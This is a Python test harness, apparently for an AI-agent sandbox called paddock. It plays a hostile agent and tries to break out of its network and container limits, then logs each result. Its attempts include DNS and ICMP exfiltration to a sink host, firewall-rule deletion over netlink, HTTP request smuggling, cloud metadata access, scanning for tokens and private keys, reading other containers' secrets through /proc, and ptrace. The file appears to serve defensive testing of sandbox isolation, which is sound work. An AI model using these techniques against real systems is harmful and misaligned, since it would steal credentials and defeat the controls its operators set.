"""A hostile agent: it tries to reach destinations and values that its run is not granted. The report has a line for each
attempt: `reached` is true if the attempt obtained anything, and `detail` is what the agent saw. The prompt is a JSON
object with the addresses."""

import ctypes
import json
import os
import socket
import ssl
import struct
import sys
import time

TIMEOUT = 4
WORKSPACE = os.environ.get("PADDOCK_WORKSPACE", "/report")
SECRET = b"reached-a-destination-that-is-not-granted"
GRANTED = "api.anthropic.com"
PLAIN = "echo.test"
KEY = os.environ.get("ANTHROPIC_API_KEY", "")
ATTEMPTS = []


def attempt(function):
    ATTEMPTS.append(function)
    return function


def given():
    with open(os.environ["PADDOCK_PROMPT_PATH"]) as file:
        return json.load(file)


SINK, SINK_V6, METADATA, API_SERVER, POD_BROKER = given()["addresses"]


# Connections ----------------------------------------------------------------------------------------------------------

def received(stream, limit=65536):
    """Returns what arrives until the other side closes or is silent."""
    stream.settimeout(TIMEOUT)
    content = b""
    try:
        while len(content) < limit:
            part = stream.recv(65536)
            if not part:
                break
            content += part
    except OSError as error:
        if not content:
            return repr(error).encode()
    return content


def tcp(address, port, send=b"GET / HTTP/1.1\r\nhost: sink.test\r\nconnection: close\r\n\r\n"):
    """Returns what a server sends over a plain connection."""
    with socket.create_connection((address, port), timeout=TIMEOUT) as stream:
        stream.sendall(send)
        return received(stream)


def tls(name, port=443, address=None, alpn=None):
    """Opens a connection with this name in its handshake."""
    context = ssl.create_default_context()
    context.check_hostname = False
    context.verify_mode = ssl.CERT_NONE
    if alpn:
        context.set_alpn_protocols(alpn)
    stream = socket.create_connection((address or GRANTED, port), timeout=TIMEOUT)
    return context.wrap_socket(stream, server_hostname=name)


def exchange(name, request, **where):
    """Returns the response to these bytes over a connection with this name in its handshake."""
    with tls(name, **where) as stream:
        stream.sendall(request)
        return received(stream)


def get(host, target="/record", *headers, method="GET", body=b""):
    lines = [f"{method} {target} HTTP/1.1", f"host: {host}", *headers, "connection: close"]
    if body:
        lines.append(f"content-length: {len(body)}")
    return "\r\n".join(lines).encode() + b"\r\n\r\n" + body


def status(answer):
    """Returns the status of a response; 0 if it is none."""
    words = answer.split(b" ", 2)
    return int(words[1]) if answer.startswith(b"HTTP/1.") and words[1].isdigit() else 0


def ok(answer):
    """Checks whether a request was forwarded: a server responded, or disclosed its secret."""
    return SECRET in answer or 100 <= status(answer) < 400


def datagram(family, address, port, content=b"hello"):
    with socket.socket(family, socket.SOCK_DGRAM) as stream:
        stream.settimeout(TIMEOUT)
        stream.connect((address, port))
        stream.send(content)
        return stream.recv(4096)


def question(name, kind=1):
    message = struct.pack(">HHHHHH", 7, 0x100, 1, 0, 0, 0)
    for label in name.split("."):
        message += bytes([len(label)]) + label.encode()
    return message + b"\0" + struct.pack(">HH", kind, 1)


# Raw sockets and UDP --------------------------------------------------------------------------------------------------

@attempt
def raw_socket():
    with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_UDP) as stream:
        stream.sendto(struct.pack(">HHHH", 4000, 9999, 8, 0), (SINK, 0))
        return True, "a raw socket was opened"


@attempt
def packet_socket():
    with socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(3)) as stream:
        stream.bind(("eth0", 0))
        return True, "a packet socket was opened"


@attempt
def datagram_to_any_port():
    return True, datagram(socket.AF_INET, SINK, 9999)


@attempt
def quic_datagram():
    return True, datagram(socket.AF_INET, SINK, 443)


@attempt
def other_transport():
    reached = []
    for number in (socket.IPPROTO_SCTP, 136, 33):
        for kind in (socket.SOCK_STREAM, socket.SOCK_DGRAM, 6):
            try:
                with socket.socket(socket.AF_INET, kind, number) as stream:
                    stream.settimeout(TIMEOUT)
                    stream.connect((SINK, 9999))
                    stream.send(b"hello")
                    reached.append((number, stream.recv(64)))
            except OSError as error:
                last = error
    return bool(reached), reached or last


# ICMP -----------------------------------------------------------------------------------------------------------------

def echo_request(kind):
    head = struct.pack(">BBHHH", kind, 0, 0, 1, 1) + b"data"
    total = sum(struct.unpack(">6H", head))
    total = (total & 0xffff) + (total >> 16)
    return struct.pack(">BBHHH", kind, 0, ~total & 0xffff, 1, 1) + b"data"


@attempt
def ping_socket():
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM, socket.IPPROTO_ICMP) as stream:
        stream.settimeout(TIMEOUT)
        stream.sendto(echo_request(8), (SINK, 0))
        return True, stream.recv(1024)


@attempt
def raw_ping():
    with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP) as stream:
        stream.settimeout(TIMEOUT)
        stream.sendto(echo_request(8), (SINK, 0))
        return True, stream.recv(1024)


@attempt
def ping_over_ipv6():
    with socket.socket(socket.AF_INET6, socket.SOCK_DGRAM, socket.IPPROTO_ICMPV6) as stream:
        stream.settimeout(TIMEOUT)
        stream.sendto(echo_request(128), (SINK_V6, 0))
        return True, stream.recv(1024)


# DNS ------------------------------------------------------------------------------------------------------------------

@attempt
def name_that_carries_data():
    try:
        return True, socket.getaddrinfo("stolen-data.sink.test", 443)
    except socket.gaierror as error:
        return False, error


@attempt
def question_to_another_server():
    answer = datagram(socket.AF_INET, SINK, 53, question("stolen-data.sink.test"))
    return SECRET in answer, answer


@attempt
def question_over_tcp():
    message = question("stolen-data.sink.test", 16)
    answer = tcp(SINK, 53, struct.pack(">H", len(message)) + message)
    return SECRET in answer, answer


@attempt
def question_of_another_type():
    answers = [datagram(socket.AF_INET, SINK, 53, question(name, kind))
               for name, kind in ((f"stolen-data.{GRANTED}", 1), ("stolen-data.sink.test", 16), (GRANTED, 252))]
    # The code of the response: 0 is an answer.
    answered = [answer for answer in answers if SECRET in answer or struct.unpack(">H", answer[6:8])[0]]
    return bool(answered), answers


# IPv6 -----------------------------------------------------------------------------------------------------------------

@attempt
def connection_over_ipv6():
    answer = tcp(SINK_V6, 80)
    return SECRET in answer, answer


@attempt
def datagram_over_ipv6():
    return True, datagram(socket.AF_INET6, SINK_V6, 9999)


@attempt
def mapped_address():
    answer = tcp(f"::ffff:{SINK}", 80)
    return SECRET in answer, answer


# Another user id ------------------------------------------------------------------------------------------------------

def sends_datagrams():
    return SECRET in datagram(socket.AF_INET, SINK, 9999)


@attempt
def user_of_the_proxy():
    child = os.fork()
    if child == 0:
        code = 1
        try:
            os.setgid(65532)
            os.setuid(1337)
            code = 0 if sends_datagrams() else 1
        finally:
            os._exit(code)
    return os.waitstatus_to_exitcode(os.waitpid(child, 0)[1]) == 0, "setuid"


@attempt
def program_of_root():
    import subprocess
    # A copy of busybox with the set-user-ID bit of root.
    ran = subprocess.run(["/bin/busybox-root", "ping", "-c", "1", "-W", "2", SINK], capture_output=True)
    return ran.returncode == 0, (ran.stdout, ran.stderr)


@attempt
def user_namespace():
    libc = ctypes.CDLL(None, use_errno=True)
    child = os.fork()
    if child == 0:
        code = 1
        try:
            if libc.unshare(0x10000000) == 0:
                with open("/proc/self/uid_map", "w") as file:
                    file.write(f"1337 {os.geteuid()} 1")
                code = 0 if sends_datagrams() else 2
        finally:
            os._exit(code)
    return os.waitstatus_to_exitcode(os.waitpid(child, 0)[1]) == 0, "unshare"


@attempt
def rules_of_the_firewall():
    """NFNETLINK: a batch that deletes every table of nf_tables."""
    with socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 12) as netlink:
        netlink.bind((0, 0))
        netlink.settimeout(TIMEOUT)

        def message(kind, flags, sequence, resource):
            return struct.pack("=IHHIIBBH", 20, kind, flags, sequence, 0, 0, 0, socket.htons(resource))

        batch = message(0x10, 1, 1, 10) + message(0xa02, 5, 2, 0) + message(0x11, 1, 3, 10)
        netlink.send(batch)
        answer = netlink.recv(4096)
        errors = []
        while len(answer) >= 20:
            length, kind = struct.unpack("=IH", answer[:6])
            if kind == 2:
                errors.append(struct.unpack("=i", answer[16:20])[0])
            answer = answer[max(length, 16):]
        return all(error == 0 for error in errors), errors


# The metadata address -------------------------------------------------------------------------------------------------

@attempt
def metadata_address():
    answer = tcp(METADATA, 80)
    return SECRET in answer, answer


@attempt
def metadata_address_as_host():
    answer = tcp(METADATA, 80, f"GET /latest/ HTTP/1.1\r\nhost: {METADATA}\r\nconnection: close\r\n\r\n".encode())
    return ok(answer), answer


@attempt
def granted_name_of_the_metadata_address():
    answer = exchange("linked.test", get("linked.test"), address="linked.test")
    return ok(answer), answer


@attempt
def granted_name_of_a_private_address():
    answer = exchange("private.test", get("private.test"), address="private.test")
    return ok(answer), answer


@attempt
def name_with_another_address_each_time():
    answers = [exchange("changing.test", get("changing.test", "/record?of=changing"), address="changing.test")
               for _ in range(12)]
    # Some of its addresses are those of the upstream: a response is fine, a secret is not.
    return any(SECRET in answer for answer in answers), [status(answer) for answer in answers]


# SNI against Host -----------------------------------------------------------------------------------------------------

@attempt
def host_that_differs_from_sni():
    answer = exchange(PLAIN, get("ungranted.test"))
    return ok(answer), answer


@attempt
def two_hosts():
    answer = exchange(PLAIN, get(PLAIN, "/record", "host: ungranted.test"))
    return ok(answer), answer


@attempt
def absolute_target_of_another_host():
    answer = exchange(PLAIN, get(PLAIN, "https://ungranted.test/record"))
    return ok(answer), answer


@attempt
def host_that_is_not_granted():
    answer = exchange("ungranted.test", get("ungranted.test"))
    return ok(answer), answer


@attempt
def handshake_without_a_name():
    answer = exchange(None, get(PLAIN))
    return ok(answer), answer


@attempt
def granted_name_at_another_address():
    answer = exchange(PLAIN, get(PLAIN, "/record?of=another-address"), address=SINK)
    # The proxy resolves the name itself: a response of the granted host is fine, the secret of the sink is not.
    return SECRET in answer, answer


@attempt
def granted_host_at_another_port():
    answer = exchange(PLAIN, get(PLAIN), port=8080, address=SINK)
    return ok(answer), answer


@attempt
def plain_protocol_inside_tls():
    answer = exchange(PLAIN, b"SSH-2.0-client\r\n")
    return ok(answer) or answer.startswith(b"SSH"), answer


@attempt
def plain_protocol():
    answer = tcp(SINK, 22, b"SSH-2.0-client\r\n")
    return SECRET in answer, answer


@attempt
def invalid_certificates_of_upstreams():
    answers = {host: exchange(host, get(host), address=host)
               for host in ("expired.test", "misnamed.test", "self-signed.test")}
    return any(ok(answer) for answer in answers.values()), answers


# Smuggling ------------------------------------------------------------------------------------------------------------

SMUGGLED = f"GET /smuggled HTTP/1.1\r\nhost: {GRANTED}\r\n\r\n".encode()


def smuggle(*headers, body):
    request = "\r\n".join([f"POST /record HTTP/1.1", f"host: {GRANTED}", *headers]).encode() + b"\r\n\r\n" + body
    answer = exchange(GRANTED, request)
    return answer.count(b"HTTP/1.1 200") > 1, answer


@attempt
def two_lengths():
    return smuggle("content-length: 0", f"content-length: {len(SMUGGLED)}", body=SMUGGLED)


@attempt
def length_and_chunks():
    return smuggle("content-length: 5", "transfer-encoding: chunked", body=b"0\r\n\r\n" + SMUGGLED)


@attempt
def obfuscated_chunks():
    return smuggle("transfer-encoding: xchunked", "transfer-encoding : chunked", body=b"0\r\n\r\n" + SMUGGLED)


@attempt
def header_that_is_removed_on_the_way():
    answer = exchange(GRANTED, get(GRANTED, "/record?of=connection", "connection: x-api-key, host", f"x-api-key: {KEY}"))
    return False, answer


@attempt
def line_break_in_a_header():
    answer = exchange(GRANTED, get(GRANTED, "/record", "x-app: a\r\n b: c", "x-app: a\nx-smuggled: yes"))
    return False, answer


# The proxy's own ports ------------------------------------------------------------------------------------------------

@attempt
def port_of_the_proxy():
    answers = []
    for address in ("127.0.0.1", "::1", socket.gethostbyname(socket.gethostname())):
        try:
            answers.append(tcp(address, 15001, get("ungranted.test")))
            with tls("ungranted.test", port=15001, address=address) as stream:
                stream.sendall(get("ungranted.test"))
                answers.append(received(stream))
        except OSError as error:
            answers.append(repr(error).encode())
    return any(ok(answer) for answer in answers), answers


@attempt
def proxy_as_configured_proxy():
    answers = []
    for request in (b"CONNECT ungranted.test:443 HTTP/1.1\r\nhost: ungranted.test:443\r\n\r\n",
                    b"GET http://ungranted.test/ HTTP/1.1\r\nhost: ungranted.test\r\n\r\n"):
        try:
            answers.append(tcp("127.0.0.1", 15001, request))
        except OSError as error:
            answers.append(repr(error).encode())
    return any(ok(answer) for answer in answers), answers


@attempt
def port_of_names():
    answer = datagram(socket.AF_INET, "127.0.0.1", 15053, question("stolen-data.sink.test"))
    return struct.unpack(">H", answer[6:8])[0] > 0, answer


# The broker, and other servers of the cluster -------------------------------------------------------------------------

@attempt
def broker_by_its_name():
    answers = []
    for path in ("/v1/run", "/v1/grants", "/v1/credential"):
        try:
            answers.append(exchange("oz-broker.oz-system.svc", get("oz-broker.oz-system.svc", path),
                                    port=8443, address="oz-broker.oz-system.svc"))
        except OSError as error:
            answers.append(repr(error).encode())
    return any(status(answer) for answer in answers if b"403" not in answer[:20]), answers


@attempt
def broker_at_its_endpoint():
    host, port = POD_BROKER.rsplit(":", 1)
    answer = exchange("oz-broker.oz-system.svc", get("oz-broker.oz-system.svc", "/v1/grants"),
                      port=int(port), address=host)
    return ok(answer), answer


@attempt
def api_server():
    host, port = API_SERVER.rsplit(":", 1)
    answer = exchange("kubernetes.default.svc", get("kubernetes.default.svc", "/version"),
                      port=int(port), address=host)
    return ok(answer), answer


# Tokens of other containers, and /proc --------------------------------------------------------------------------------

def files_below(*roots):
    for root in roots:
        for directory, _, names in os.walk(root, onerror=lambda _: None):
            for name in names:
                yield os.path.join(directory, name)


def content(path, limit=1 << 20):
    try:
        with open(path, "rb") as file:
            return file.read(limit)
    except OSError:
        return b""


@attempt
def token_in_a_file():
    found = [path for path in files_below("/var/run", "/run", "/var/lib", "/paddock", "/etc", "/tmp", WORKSPACE)
             if content(path).count(b".") >= 2 and content(path).startswith(b"eyJ")]
    return bool(found), found


@attempt
def key_of_the_authority():
    found = [path for path in files_below("/var/run", "/run", "/var/lib", "/paddock", "/etc", "/tmp", WORKSPACE)
             if b"PRIVATE KEY" in content(path)]
    return bool(found), found


@attempt
def trust_file_that_is_writable():
    with open(os.environ["SSL_CERT_FILE"], "a") as file:
        file.write("-----BEGIN CERTIFICATE-----\n")
    return True, "it was written"


@attempt
def processes_of_other_containers():
    found = []
    for name in os.listdir("/proc"):
        if name.isdigit():
            line = content(f"/proc/{name}/cmdline")
            if b"oz-harness" in line:
                found.append(line.decode())
    return bool(found), found


@attempt
def files_of_other_containers():
    found = [path for path in ("/proc/1/root/var/run/secrets/oz-proxy/token", "/proc/1/root/var/run/secrets/oz/token",
                               "/proc/1/root/var/lib/oz/authority")
             if os.path.exists(path)]
    return bool(found), found


@attempt
def memory_of_other_processes():
    libc = ctypes.CDLL(None, use_errno=True)
    own = os.getpid()
    found = []
    for name in os.listdir("/proc"):
        if name.isdigit() and int(name) not in (own, 1) and b"python" not in content(f"/proc/{name}/cmdline"):
            if libc.ptrace(16, int(name), 0, 0) == 0:
                found.append(name)
    return bool(found), found


@attempt
def settings_of_the_kernel():
    changed = []
    for path, value in (("/proc/sys/net/ipv4/ip_unprivileged_port_start", "0"),
                        ("/proc/sys/net/ipv4/ip_forward", "1"),
                        ("/proc/sys/net/ipv4/ping_group_range", "0 65535")):
        try:
            with open(path, "w") as file:
                file.write(value)
            changed.append(path)
        except OSError:
            pass
    return bool(changed), changed


# Placeholders in other places -----------------------------------------------------------------------------------------

def refused_with_key(host, *requests):
    """Sends requests that must be refused; a response of an upstream to one of them is a success of the attempt."""
    answers = [exchange(host, request, address=host) for request in requests]
    return any(ok(answer) for answer in answers), answers


@attempt
def placeholder_in_another_header():
    return refused_with_key(GRANTED, get(GRANTED, "/echo", f"x-app: {KEY}"),
                            get(GRANTED, "/echo", f"authorization: Bearer {KEY}"),
                            get(GRANTED, "/echo", f"x-api-key: {KEY}", f"x-app: {KEY}"))


@attempt
def placeholder_in_the_target():
    return refused_with_key(GRANTED, get(GRANTED, f"/echo?key={KEY}"), get(GRANTED, f"/echo/{KEY}"),
                            get(GRANTED, f"/echo?other=%70{KEY[1:]}"))


@attempt
def placeholder_with_more_text():
    return refused_with_key(GRANTED, get(GRANTED, "/echo", f"x-api-key: {KEY} and more"),
                            get(GRANTED, "/echo", f"x-api-key: {KEY}{KEY}"),
                            get(GRANTED, "/echo", f"x-api-key: {KEY}", f"x-api-key: {KEY}"))


@attempt
def placeholder_for_another_host():
    return refused_with_key(PLAIN, get(PLAIN, "/echo", f"x-api-key: {KEY}"),
                            get(PLAIN, "/echo", f"authorization: Bearer {KEY}"))


@attempt
def placeholder_without_tls():
    answer = tcp(GRANTED, 80, get(GRANTED, "/echo", f"x-api-key: {KEY}"))
    return ok(answer), answer


@attempt
def placeholder_of_another_run():
    other = "pdk-" + "0" * 48
    return refused_with_key(GRANTED, get(GRANTED, "/echo", f"x-api-key: {other}"))


# Foreign keys ---------------------------------------------------------------------------------------------------------

@attempt
def foreign_key():
    return refused_with_key(GRANTED, get(GRANTED, "/record", "x-api-key: sk-ant-of-the-attacker"))


@attempt
def foreign_key_in_another_header():
    return refused_with_key(GRANTED, *[get(GRANTED, "/record", line) for line in (
        "authorization: Bearer sk-ant-of-the-attacker", "authorization: Basic YTpi", "cookie: session=mine",
        "api-key: mine", "x-goog-api-key: mine", "private-token: mine", "proxy-authorization: Basic YTpi")])


@attempt
def foreign_key_in_the_query():
    return refused_with_key(GRANTED, *[get(GRANTED, f"/record?{name}=mine")
                                       for name in ("key", "api_key", "access_token", "token", "ke%79")])


@attempt
def foreign_key_beside_the_placeholder():
    return refused_with_key(GRANTED, get(GRANTED, "/record", f"x-api-key: {KEY}", "authorization: Bearer mine"),
                            get(GRANTED, "/record", f"x-api-key: {KEY}", "x-api-key: mine"))


# Many connections -----------------------------------------------------------------------------------------------------

@attempt
def thousands_of_connections():
    streams = []
    try:
        for _ in range(2000):
            stream = socket.socket()
            stream.settimeout(TIMEOUT)
            streams.append(stream)
            stream.connect((SINK, 443))
    except OSError:
        pass
    finally:
        opened = len(streams)
        for stream in streams:
            stream.close()
    # The proxy must serve the next request of the agent, once it has seen the end of these.
    for _ in range(100):
        try:
            answer = exchange(PLAIN, get(PLAIN, "/record?of=after-thousands"), address=PLAIN)
            if ok(answer):
                return False, f"after {opened} connections the proxy responds"
        except OSError as error:
            answer = repr(error)
        time.sleep(0.1)
    return True, f"after {opened} connections the proxy does not respond: {answer}"


def main():
    wanted = given().get("only")
    with open(WORKSPACE + "/report.jsonl", "a") as file:
        for function in ATTEMPTS:
            if wanted and function.__name__ not in wanted:
                continue
            began = time.time()
            try:
                reached, detail = function()
            except Exception as error:
                reached, detail = False, repr(error)
            line = {"attempt": function.__name__, "reached": bool(reached), "detail": str(detail)[:2000],
                    "seconds": round(time.time() - began, 2)}
            file.write(json.dumps(line) + "\n")
            file.flush()
        file.write(json.dumps({"attempt": "end", "reached": False, "detail": ""}) + "\n")
        file.flush()
    while not os.path.exists(WORKSPACE + "/release"):
        time.sleep(0.05)
    return 0


if __name__ == "__main__":
    sys.exit(main())
